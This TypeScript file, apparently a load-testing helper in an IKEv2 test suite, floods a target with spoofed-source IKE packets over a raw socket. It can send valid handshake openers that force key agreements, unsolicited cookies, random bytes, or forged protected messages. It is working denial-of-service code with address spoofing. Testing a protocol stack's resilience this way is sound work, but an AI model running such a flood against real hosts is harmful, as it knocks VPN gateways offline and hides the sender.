// First messages of IKE from forged addresses, as an attacker without an address of its own sends them:
// whole packets through a raw socket, a batch to a system call. Started inside strangers.ts's namespace
// with a JSON of FloodTask; prints one FloodResult.
//   first    a sound IKE_SA_INIT with x25519: were it believed, it would cost a key agreement
//   cookie   the same with a cookie that nobody gave
//   garbage  bytes at random
//   forged   a protected message that names SPIs at random
import { randomBytes } from 'node:crypto';
import { addressBytes } from '../net/addressing.js';
import {
  allocate,
  check,
  close,
  errno,
  SystemError,
  sendmmsg,
  socket,
  usleep,
} from '../net/libc.js';
import { AF_INET, EINTR, ENOBUFS, IPPROTO_RAW, IPPROTO_UDP, SOCK_RAW } from '../net/linux.js';
import { BATCH, now } from './datagrams.js';

export type FloodKind = 'first' | 'cookie' | 'garbage' | 'forged';

export interface FloodTask {
  readonly to: string;
  readonly port: number;
  readonly count: number;
  /** Messages a second; absent: as fast as it goes. */
  readonly rate?: number;
  /** In turn. */
  readonly kinds: readonly FloodKind[];
  /** Networks of 24 bits that sources are taken from, with any port. */
  readonly sources: readonly string[];
}

export interface FloodResult {
  readonly sent: number;
  readonly seconds: number;
}

const MMSGHDR = 64; // struct msghdr (56), u32 length, padding
const IOVEC = 16;
const SOCKADDR_IN = 16;
const PACKET = 1024;
const IOVECS = BATCH * MMSGHDR;
const NAME = IOVECS + BATCH * IOVEC;
const PACKETS = NAME + SOCKADDR_IN;
const IP_HEADER = 20;
const IKE = IP_HEADER + 8;
const PAUSE_US = 200;
/** What could not be sent in time is not made up for by more than this at once. */
const BACKLOG_SECONDS = 0.05;

// RFC 7296 §3.1, §3.2: type numbers, a chain of payloads.
const SA_INIT = 34;
const INFORMATIONAL = 37;
const [SA, KE, NONCE, NOTIFY, SK] = [33, 34, 40, 41, 46];
const INITIATOR = 0x08;

/** `next`: the payload that follows. */
function payload(next: number, body: Uint8Array): Buffer {
  const header = Buffer.of(next, 0, 0, 0);
  header.writeUInt16BE(header.length + body.length, 2);
  return Buffer.concat([header, body]);
}

function message(exchange: number, first: number, chain: readonly Buffer[]): Buffer {
  const header = Buffer.alloc(28);
  header.set([first, 0x20, exchange, INITIATOR], 16);
  const bytes = Buffer.concat([header, ...chain]);
  bytes.writeUInt32BE(bytes.length, 24);
  return bytes;
}

/** §3.3: AES-GCM of 128 bits, PRF HMAC-SHA2-256, x25519. */
const PROPOSAL = Buffer.from(
  '00000024 01010003 0300000c 01000014 800e0080 03000008 02000005 00000008 0400001f'.replaceAll(
    ' ',
    '',
  ),
  'hex',
);

/** Each time it goes out its source and its initiator's SPI are others. */
const MAKE: Readonly<Record<FloodKind, () => Buffer>> = {
  first: () => message(SA_INIT, SA, opening()),
  cookie: () => {
    const shown = Buffer.concat([Buffer.of(0, 0, 0x40, 0x06), randomBytes(33)]); // N(COOKIE)
    return message(SA_INIT, NOTIFY, [payload(SA, shown), ...opening()]);
  },
  garbage: () => randomBytes(200),
  forged: () => {
    const bytes = message(INFORMATIONAL, SK, [payload(0, randomBytes(44))]);
    bytes.set(randomBytes(8), 8);
    return bytes;
  },
};

function opening(): Buffer[] {
  const group = Buffer.of(0, 31, 0, 0);
  const nat = (type: number): Buffer =>
    Buffer.concat([Buffer.of(0, 0, type >> 8, type & 255), randomBytes(20)]);
  return [
    payload(KE, PROPOSAL),
    payload(NONCE, Buffer.concat([group, randomBytes(32)])),
    payload(NOTIFY, randomBytes(32)),
    payload(NOTIFY, nat(16388)),
    payload(NOTIFY, nat(16389)),
    payload(0, Buffer.of(0, 0, 16430 >> 8, 16430 & 255)),
  ];
}

/** The batch of packets that goes out again and again, changed a little each time. */
function lay({ to, port, kinds }: FloodTask) {
  const block = allocate(PACKETS + BATCH * PACKET);
  const { view, at, bytes } = block;
  const pointer = (offset: number, value: number): void =>
    view.setBigUint64(offset, BigInt(value), true);
  view.setUint16(NAME, AF_INET, true);
  bytes.set(addressBytes(to), NAME + 4);
  for (let i = 0; i < BATCH; i++) {
    const body = MAKE[kinds[i % kinds.length]!]();
    const packet = PACKETS + i * PACKET;
    const length = IKE + body.length;
    bytes.set([0x45, 0, length >> 8, length & 255, 0, 0, 0x40, 0, 64, IPPROTO_UDP], packet);
    bytes.set(addressBytes(to), packet + 16);
    view.setUint16(packet + 22, port);
    view.setUint16(packet + 24, length - IP_HEADER); // no checksum (RFC 768)
    bytes.set(body, packet + IKE);
    pointer(i * MMSGHDR, at + NAME);
    view.setUint32(i * MMSGHDR + 8, SOCKADDR_IN, true);
    pointer(i * MMSGHDR + 16, at + IOVECS + i * IOVEC);
    pointer(i * MMSGHDR + 24, 1);
    pointer(IOVECS + i * IOVEC, at + packet);
    pointer(IOVECS + i * IOVEC + 8, length);
  }
  return block;
}

function flood(task: FloodTask): FloodResult {
  const { count, rate = Infinity, sources } = task;
  const block = lay(task);
  const { view, bytes } = block;
  const fd = check(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), 'socket', 'the flood');
  const networks = sources.map(addressBytes);
  const started = now();
  let sent = 0;
  let skipped = 0;
  const change = (packet: number): void => {
    const chance = Math.floor(Math.random() * 2 ** 32);
    bytes.set(networks[chance % networks.length]!, packet + 12);
    bytes[packet + 15] = chance >>> 24;
    view.setUint16(packet + 20, 1024 + (chance % 64_000));
    view.setUint32(packet + IKE, chance | 1);
    view.setUint32(packet + IKE + 4, Math.floor(Math.random() * 2 ** 32));
  };
  try {
    while (sent < count) {
      const elapsed = (now() - started) / 1e9;
      const due = rate < Infinity ? Math.floor(rate * elapsed) - sent - skipped : BATCH;
      if (due < 1) {
        usleep(PAUSE_US);
        continue;
      }
      if (rate < Infinity) skipped += Math.max(0, due - Math.ceil(rate * BACKLOG_SECONDS));
      const most = Math.min(due, BATCH, count - sent);
      for (let i = 0; i < most; i++) change(PACKETS + i * PACKET);
      const done = sendmmsg(fd, block.at, most, 0);
      if (done > 0) sent += done;
      else if (errno() !== EINTR && errno() !== ENOBUFS) {
        throw new SystemError('sendmmsg', 'the flood', errno());
      }
    }
  } finally {
    close(fd);
  }
  return { sent, seconds: (now() - started) / 1e9 };
}

process.stdout.write(`${JSON.stringify(flood(JSON.parse(process.argv[2]!) as FloodTask))}\n`);
